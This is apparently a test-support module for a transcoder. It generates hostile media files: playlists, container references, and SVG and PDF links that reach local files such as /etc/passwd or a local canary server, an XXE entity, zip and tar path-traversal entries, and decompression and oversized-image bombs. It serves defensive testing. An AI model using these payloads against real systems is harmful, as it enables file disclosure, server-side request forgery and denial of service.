"""Malicious files: references to other files, disguised files, and bombs.

`REFERENCES` refer to a file outside and a server, `DISGUISES` are no films or polyglots; `BOMBS`
and `PICTURE_BOMBS` demand excessive memory, time or tracks.
Sources: CVE-2016-1898 (subfile, concat), the GAB2 reports of 2017, CVE-2026-107697 (playlists that
name playlists); QuickTime File Format (dref, rmra, cmov); ISO/IEC 14496-12; RFC 8216; RFC 8794;
PNG (W3C, 2nd edition).
"""

import base64
import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.support.transcode.canary import Canary

# -- references to other files --------------------------------------------------------------------


def hls(place: str, *more: str) -> bytes:
    lines = ["#EXTM3U", "#EXT-X-VERSION:7", "#EXT-X-TARGETDURATION:4", *more, "#EXTINF:3,", place]
    return "\n".join([*lines, "#EXT-X-ENDLIST", ""]).encode()


def master(place: str) -> bytes:
    return f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{place}\n".encode()


def dash(base: str) -> bytes:
    return f"""<?xml version="1.0"?>
<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S"
 profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4">
<Representation id="1" bandwidth="1" codecs="avc1.42c00d" width="320" height="180">
<BaseURL>{base}</BaseURL></Representation></AdaptationSet></Period></MPD>""".encode()


def sdp(port: int) -> bytes:
    return (
        f"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=a\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    ).encode()


def svg(place: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{place}">]>'
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'width="640" height="360"><image xlink:href="{place}" width="640" height="360"/>'
        "<script>alert(1)</script><text>&x;</text></svg>"
    ).encode()


def pdf(place: str) -> bytes:
    return (
        f"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({place})>>>>endobj\n"
        "trailer<</Root 1 0 R>>\n%%EOF\n"
    ).encode()


# -- containers, byte by byte ---------------------------------------------------------------------


def atom(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I", 8 + len(body)) + kind + body


def full(kind: bytes, *parts: bytes) -> bytes:
    return atom(kind, bytes(4), *parts)


_MATRIX = struct.pack(">9i", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
_FTYP = atom(b"ftyp", b"isom", bytes(4), b"isomavc1")
_MVHD = full(b"mvhd", struct.pack(">4I", 0, 0, 1000, 3000), struct.pack(">IH", 1 << 16, 256),
             bytes(10), _MATRIX, bytes(24), struct.pack(">I", 2))  # fmt: skip
_AVCC = bytes.fromhex("0142c00dffe1000b6742c00dda0507e44000000301000468ce3c80")


def track(dref: bytes, *tables: bytes, edits: bytes = b"") -> bytes:
    """Return a 320x180 video track with three samples, and optionally these tables."""
    entry = atom(
        b"avc1", bytes(6), struct.pack(">H", 1), bytes(16), struct.pack(">HH", 320, 180),
        struct.pack(">IIIH", 72 << 16, 72 << 16, 0, 1), bytes(32), struct.pack(">Hh", 24, -1),
        atom(b"avcC", _AVCC),
    )  # fmt: skip
    present = {each[4:8] for each in tables}
    usual = (
        full(b"stts", struct.pack(">III", 1, 3, 1000)),
        full(b"stsc", struct.pack(">IIII", 1, 1, 3, 1)),
        full(b"stsz", struct.pack(">II", 100, 3)),
        full(b"stco", struct.pack(">II", 1, 0)),
    )
    tables += tuple(each for each in usual if each[4:8] not in present)
    stbl = atom(b"stbl", full(b"stsd", struct.pack(">I", 1), entry), *tables)
    dinf = atom(b"dinf", full(b"dref", struct.pack(">I", 1), dref))
    minf = atom(b"minf", full(b"vmhd", bytes(8)), dinf, stbl)
    hdlr = full(b"hdlr", bytes(4), b"vide", bytes(13))
    mdhd = full(b"mdhd", struct.pack(">4IHH", 0, 0, 1000, 3000, 0x55C4, 0))
    tkhd = atom(b"tkhd", struct.pack(">I4II", 3, 0, 0, 1, 0, 3000), bytes(16), _MATRIX,
                struct.pack(">II", 320 << 16, 180 << 16))  # fmt: skip
    return atom(b"trak", tkhd, edits, atom(b"mdia", mdhd, hdlr, minf))


_OWN = atom(b"url ", struct.pack(">I", 1))


def movie(*atoms: bytes) -> bytes:
    return _FTYP + atom(b"moov", _MVHD, *atoms) + atom(b"mdat", bytes(300))


def elsewhere(canary: Canary) -> bytes:
    """Return a film whose samples are in a file outside, given by a URL."""
    url = full(b"url ", canary.path.as_uri().encode() + b"\0")
    return movie(track(url))


def alias(canary: Canary) -> bytes:
    """The same with a Macintosh alias: an absolute and a relative path."""
    path = bytes(canary.path)
    name = canary.path.name.encode()
    record = bytes(10) + bytes([4]) + b"disk".ljust(27, b"\0") + bytes(12)
    record += bytes([len(name)]) + name.ljust(63, b"\0") + bytes(16)
    record += struct.pack(">hh", 1, 1) + bytes(16)
    for kind, value in ((2, path), (18, path)):
        record += struct.pack(">hh", kind, len(value)) + value + bytes(len(value) % 2)
    record += struct.pack(">hh", -1, 0)
    dref = full(b"alis", struct.pack(">IH", 0, len(record) + 6), record)
    return movie(track(dref))


def reference_movie(canary: Canary) -> bytes:
    place = f"{canary.web}/a.mov".encode() + b"\0"
    rdrf = full(b"rdrf", b"url ", struct.pack(">I", len(place)), place)
    return _FTYP + atom(b"moov", atom(b"rmra", atom(b"rmda", rdrf)))


def chunk(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return kind + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)


def gab2(text: bytes) -> bytes:
    """Return an AVI film with a playlist as subtitles."""
    avih = chunk(b"avih", struct.pack("<14I", 40_000, 0, 0, 0x10, 3, 0, 2, 0, 320, 180, *([0] * 4)))
    strh = struct.pack("<4s4s4x4x4x4I3I4x8x", b"vids", b"MJPG", 1, 25, 0, 3, 0, 0, 0)
    strf = struct.pack("<IiiHH4sIiiII", 40, 320, 180, 1, 24, b"MJPG", 0, 0, 0, 0, 0)
    texts = struct.pack("<4s4x4x4x4x4I3I4x8x", b"txts", 1, 25, 0, 3, 0, 0, 0)
    streams = chunk(b"LIST", b"strl", chunk(b"strh", strh), chunk(b"strf", strf))
    streams += chunk(b"LIST", b"strl", chunk(b"strh", texts), chunk(b"strf"))
    title = "a".encode("utf-16-le")
    title_chunk = (
        b"GAB2\0" + struct.pack("<HI", 2, len(title)) + title + struct.pack("<HI", 4, len(text))
    )
    movi = chunk(b"LIST", b"movi", chunk(b"00dc", bytes(64)), chunk(b"01tx", title_chunk + text))
    return chunk(b"RIFF", b"AVI ", chunk(b"LIST", b"hdrl", avih, streams), movi)


def tag(kind: bytes, body: bytes) -> bytes:
    """Return an ID3v2.3 tag with one frame."""
    frame = kind + struct.pack(">IH", len(body), 0) + body
    size = len(frame)
    return b"ID3\3\0\0" + bytes(size >> shift & 0x7F for shift in (21, 14, 7, 0)) + frame


def element(number: str, *parts: bytes) -> bytes:
    """Return an EBML element with a size of eight bytes."""
    body = b"".join(parts)
    return bytes.fromhex(number) + (1 << 56 | len(body)).to_bytes(8, "big") + body


_EBML = element("1A45DFA3", element("4282", b"matroska"))

_Made = Callable[[Canary], bytes]
REFERENCES: dict[str, _Made] = {
    "HLS, file:": lambda c: hls(c.path.as_uri()),
    "HLS, a path": lambda c: hls(str(c.path)),
    "HLS, a name": lambda c: hls(c.path.name),
    "HLS, up and down": lambda c: hls(f"../{c.path.parent.name}/{c.path.name}"),
    "HLS, http:": lambda c: hls(f"{c.web}/a.ts"),
    "HLS, tcp:": lambda c: hls(f"tcp://127.0.0.1:{c.port}/a.ts"),
    "HLS, concat:": lambda c: hls(f"concat:{c.path}|{c.path}"),
    "HLS, concat: of a header and a file": lambda c: hls(f"concat:{c.web}/a.m3u8|{c.path}"),
    "HLS, subfile:": lambda c: hls(f"subfile,,start,0,end,9999,,:{c.path}"),
    "HLS, data:": lambda c: hls("data:video/mp2t;base64," + base64.b64encode(
        hls(str(c.path))).decode()),
    "HLS, crypto:": lambda c: hls(f"crypto+file://{c.path}"),
    "HLS, a key": lambda c: hls(f"{c.web}/a.ts", f'#EXT-X-KEY:METHOD=AES-128,URI="{c.path}"'),
    "HLS, an init section": lambda c: hls("a.m4s", f'#EXT-X-MAP:URI="{c.path}"'),
    "HLS, a playlist of playlists": lambda c: master(f"{c.web}/a.m3u8"),
    "HLS, a playlist of a file": lambda c: master(c.path.as_uri()),
    "HLS, with a byte order mark": lambda c: b"\xef\xbb\xbf" + hls(str(c.path)),
    "a list for concat": lambda c: f"ffconcat version 1.0\nfile '{c.path}'\n".encode(),
    "a list for concat, by name": lambda c: f"ffconcat version 1.0\nfile {c.path.name}\n".encode(),
    "DASH, http:": lambda c: dash(f"{c.web}/a.mp4"),
    "DASH, file:": lambda c: dash(c.path.as_uri()),
    "SDP": lambda c: sdp(c.port),
    "RTSP": lambda c: f"rtsp://127.0.0.1:{c.port}/a\n".encode(),
    "ASX": lambda c: f'<asx version="3"><entry><ref href="{c.web}/a"/></entry></asx>'.encode(),
    "PLS": lambda c: f"[playlist]\nFile1={c.path}\nNumberOfEntries=1\n".encode(),
    "AviSynth": lambda c: f'FFVideoSource("{c.path}")\n'.encode(),
    "samples elsewhere, by URL": elsewhere,
    "samples elsewhere, by alias": alias,
    "a movie elsewhere": reference_movie,
    "AVI, a playlist for subtitles": lambda c: gab2(hls(str(c.path))),
    "AVI, a list for subtitles": lambda c: gab2(f"ffconcat version 1.0\nfile {c.path}\n".encode()),
    "MP3, a cover elsewhere": lambda c: tag(
        b"APIC", b"\0-->\0\3\0" + c.path.as_uri().encode()) + hls(str(c.path)),
    "SVG": lambda c: svg(c.path.as_uri()),
    "PDF": lambda c: pdf(c.web),
}  # fmt: skip


# -- disguised files ------------------------------------------------------------------------------


def zipped(inside: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../tmp/film.mp4", inside)
    return file.getvalue()


def tarred(inside: bytes) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        about = tarfile.TarInfo("../film.mp4")
        about.size = len(inside)
        archive.addfile(about, io.BytesIO(inside))
    return file.getvalue()


# From the bytes of a valid film; the second value: whether it may still be accepted as a film.
DISGUISES: dict[str, tuple[Callable[[bytes], bytes], bool]] = {
    "a zip of a film": (zipped, False),
    "a gzip of a film": (gzip.compress, False),
    "a gzip of zeros": (lambda _: gzip.compress(bytes(20_000_000)), False),
    "a tar of a film": (tarred, False),
    "a program": (lambda _: Path("/bin/true").read_bytes(), False),
    "a page": (lambda _: b"<html><script>alert(1)</script></html>" * 100, False),
    "a GIF": (lambda _: b"GIF89a" + struct.pack("<HH", 320, 180) + bytes(200), False),
    "a playlist, then a film": (lambda film: hls("/etc/passwd") + film, True),
    "a film, then a zip": (lambda film: film + zipped(film), True),
    "a film with a page inside": (
        lambda film: film + atom(b"free", b"<script>alert(1)</script>"), True),
    "a film that begins with a page": (
        lambda film: atom(b"free", b"<html><script>alert(1)</script>-->") + film, True),
    "half a film": (lambda film: film[: len(film) // 2], True),
    "a film without its last octet": (lambda film: film[:-1], True),
    "a film with its octets turned round": (lambda film: film[::-1], False),
}  # fmt: skip


# -- bombs ----------------------------------------------------------------------------------------


def squeezed(size: int) -> bytes:
    """Return zlib data that inflates to `size` zeros, a thousand times its length (RFC 1950)."""
    packer, block = zlib.compressobj(9), bytes(1 << 20)
    first, again = (
        packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2)
    )  # after a full flush, the block is independent and can be repeated
    check = 1
    for _ in range(size >> 20):
        check = zlib.adler32(block, check)
    return first + again * ((size >> 20) - 1) + b"\3\0" + struct.pack(">I", check)


def compressed_index(claimed: int) -> bytes:
    """Return a compressed index that declares `claimed` bytes, and inflates to 256 MiB of zeros."""
    cmvd = atom(b"cmvd", struct.pack(">I", claimed), squeezed(256 << 20))
    return _FTYP + atom(b"moov", atom(b"cmov", atom(b"dcom", b"zlib"), cmvd))


def nested(kind: bytes, depth: int) -> bytes:
    """Return deeply nested atoms."""
    return b"".join(struct.pack(">I", 8 * (depth - index)) + kind for index in range(depth))


def many_elements(count: int) -> bytes:
    """Return a Matroska file with `count` tracks that have a number and a type only."""
    parts = (element("AE", element("D7", (n % 120 + 1).to_bytes(1, "big")), element("83", b"\1"),
                     element("86", b"V_MPEG4/ISO/AVC")) for n in range(count))  # fmt: skip
    return _EBML + element("18538067", element("1654AE6B", *parts))


def packed_tracks() -> bytes:
    """Return a Matroska track whose private data are compressed zeros."""
    coding = element("6D80", element("6240", element("5034", element("4254", b"\0")),
                                     element("5032", b"\2")))  # fmt: skip
    entry = element("AE", element("D7", b"\1"), element("83", b"\1"), coding,
                    element("86", b"V_MPEG4/ISO/AVC"),
                    element("63A2", squeezed(256 << 20)))  # fmt: skip
    return _EBML + element("18538067", element("1654AE6B", entry))


def edits(count: int) -> bytes:
    entry = struct.pack(">IiI", 1, 0, 1 << 16)
    return movie(track(_OWN, edits=atom(b"edts", full(
        b"elst", struct.pack(">I", count), entry * count))))  # fmt: skip


def programmes() -> bytes:
    """Return a transport stream of 8000 programs, with packets of all PIDs."""
    out = bytearray()
    for pid in range(0x1FFF):
        head = struct.pack(">BHB", 0x47, 0x4000 | pid, 0x10)
        body = b"\0\0\1\xe0\0\0\x80\x80\5\x21\0\1\0\1" + bytes(170)
        out += (head + body)[:188]
    return bytes(out) * 3


BOMBS: dict[str, Callable[[], bytes]] = {
    "an index that is packed": lambda: compressed_index(256 << 20),
    "an index that claims 4 GiB": lambda: compressed_index(0xFFFF_FFF0),
    "a million tracks, MP4": lambda: movie(atom(b"trak") * 1_000_000),
    "ten thousand whole tracks, MP4": lambda: movie(track(_OWN) * 10_000),
    "200 000 tracks, Matroska": lambda: many_elements(200_000),
    "private data that are packed": packed_tracks,
    "eight thousand programmes": programmes,
    "4 000 million samples": lambda: movie(track(
        _OWN, full(b"stsz", struct.pack(">II", 1, 0xFFFF_FFF0)),
        full(b"stts", struct.pack(">III", 1, 0xFFFF_FFF0, 1)),
        full(b"stsc", struct.pack(">IIII", 1, 1, 0xFFFF_FFF0, 1)))),
    "50 million samples": lambda: movie(track(
        _OWN, full(b"stsz", struct.pack(">II", 1, 50_000_000)),
        full(b"stts", struct.pack(">III", 1, 50_000_000, 1)),
        full(b"stsc", struct.pack(">IIII", 1, 1, 50_000_000, 1)))),
    "a million edits": lambda: edits(1_000_000),
    "atoms in atoms": lambda: _FTYP + nested(b"moov", 500_000),
    "elements in elements": lambda: _EBML + element("18538067") + b"\x18\x53\x80\x67\xff" * 500_000,
    "an atom of 2^63": lambda: _FTYP + struct.pack(">I4sQ", 1, b"moov", (1 << 63) - 1) + bytes(99),
    "zeros behind a beginning": lambda: _FTYP + bytes(20_000_000),
}  # fmt: skip


# -- pictures -------------------------------------------------------------------------------------


def png(
    width: int, height: int, *, bits: int, colour: int, data: bytes, more: bytes = b""
) -> bytes:
    def part(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = part(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0))
    extra = part(more[:4], more[4:]) if more else b""
    return b"\x89PNG\r\n\x1a\n" + head + extra + part(b"IDAT", data) + part(b"IEND", b"")


def jpeg_head(width: int, height: int) -> bytes:
    frame = struct.pack(">HBHHB", 17, 8, height, width, 3) + bytes.fromhex("011100021101031101")
    return b"\xff\xd8\xff\xc2" + frame + b"\xff\xd9"


_SMALL = zlib.compress(bytes(181) * 180)
PICTURE_BOMBS: dict[str, Callable[[], bytes]] = {
    "PNG, 16000x16000 of one bit": lambda: png(
        16_000, 16_000, bits=1, colour=0, data=squeezed(31 << 20)),
    "PNG, 16000x16000 of 48 bits": lambda: png(
        16_000, 16_000, bits=16, colour=2, data=squeezed(64 << 20)),
    "PNG, 2^31 wide": lambda: png((1 << 31) - 1, 1, bits=8, colour=2, data=_SMALL),
    "PNG, a packed profile": lambda: png(
        180, 180, bits=8, colour=0, data=_SMALL, more=b"iCCPa\0\0" + squeezed(1536 << 20)),
    "PNG, a packed text": lambda: png(
        180, 180, bits=8, colour=0, data=_SMALL, more=b"zTXta\0\0" + squeezed(128 << 20)),
    "PNG, more rows than said": lambda: png(
        180, 180, bits=8, colour=0, data=squeezed(128 << 20)),
    "JPEG, 65500x65500": lambda: jpeg_head(65_500, 65_500),
    "WebP, 16384x16384": lambda: chunk(
        b"RIFF", b"WEBP", chunk(b"VP8L", b"\x2f\xff\xff\xff\x0f" + bytes(64))),
}  # fmt: skip
PICTURES: dict[str, _Made] = {
    "SVG": lambda c: svg(c.path.as_uri()),
    "SVG, http:": lambda c: svg(f"{c.web}/a.png"),
    "GIF": lambda _: b"GIF89a" + struct.pack("<HH", 320, 180) + bytes(200),
    "PDF": lambda c: pdf(c.web),
    "MVG": lambda c: f"push graphic-context\nimage over 0,0 9,9 'url({c.web}/a)'\n".encode(),
    "HLS": lambda c: hls(str(c.path)),
    "a film": lambda c: c.path.read_bytes(),
}
